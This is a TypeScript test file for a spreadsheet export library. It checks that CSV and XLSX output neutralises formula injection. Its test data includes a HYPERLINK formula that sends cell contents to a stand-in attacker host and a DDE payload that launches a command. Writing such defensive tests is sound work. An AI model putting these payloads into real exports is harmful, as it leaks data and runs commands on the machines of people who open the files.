import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import type { Cell } from './cell.ts';
import { readCsv } from './read-csv.ts';
import { readRows } from './read-rows.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';
import { unpackZip } from './zip.ts';

async function* once(rows: Cell[][]) {
  yield rows;
}

async function csvOf(...cells: Cell[]): Promise<string> {
  let text = '';
  for await (const part of writeCsv(['head'], once(cells.map((cell) => [cell])))) text += part;
  return text;
}

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1;"open")',
  '+1',
  '-1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
/** What a spreadsheet evaluates, as far as any of them does: the sign first, or after blanks. */
const LOOKS_LIKE_FORMULA = /^\s*[=+\-@＝＋－＠]/;

describe('text that begins like a formula', () => {
  test.each(FORMULAS)('is text in CSV: %j', async (text) => {
    const [, row] = readCsv(Buffer.from(await csvOf(text)));
    expect(row).toEqual([`'${text}`]);
  });

  test('cannot get out of its cell by quotes, delimiters and line ends', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom('=', '+', '-', '@', '"', ';', ',', '\n', '\r', '\t', ' ', "'", 'a', '1'), {
          maxLength: 8,
        }),
        async (letters) => {
          const text = letters.join('');
          const rows = readCsv(Buffer.from(await csvOf(text, 'next')));
          expect(rows.at(-1)).toEqual(['next']);
          for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(LOOKS_LIKE_FORMULA);
        },
      ),
      { numRuns: 300 },
    );
  });

  test('is text in a workbook as it is, and no formula', async () => {
    const written = FORMULAS.map((text) => text.trim());
    const workbook = await writeXlsx(['head'], once(written.map((text) => [text])));
    const sheet = unpackZip(workbook, (path) => path.endsWith('sheet1.xml'), 1_000_000);
    expect([...sheet.values()].join('')).not.toContain('<f');
    expect((await readSheet(workbook)).slice(1).flat()).toEqual(written);
  });

  test('is as it was when it is brought in again', async () => {
    const numbers = ['=1', '+1', '-1', '@1'];
    const rows = await readRows(Buffer.from(await csvOf(...numbers)));
    expect(rows.slice(1).map(({ cells }) => cells[0])).toEqual(numbers);
  });
});

test('numbers are numbers, below zero too', async () => {
  const text = await csvOf(-12.5, 0, 1e3, -7);
  expect(text.split('\r\n').slice(1, 5)).toEqual(['-12,5', '0', '1000', '-7']);
});
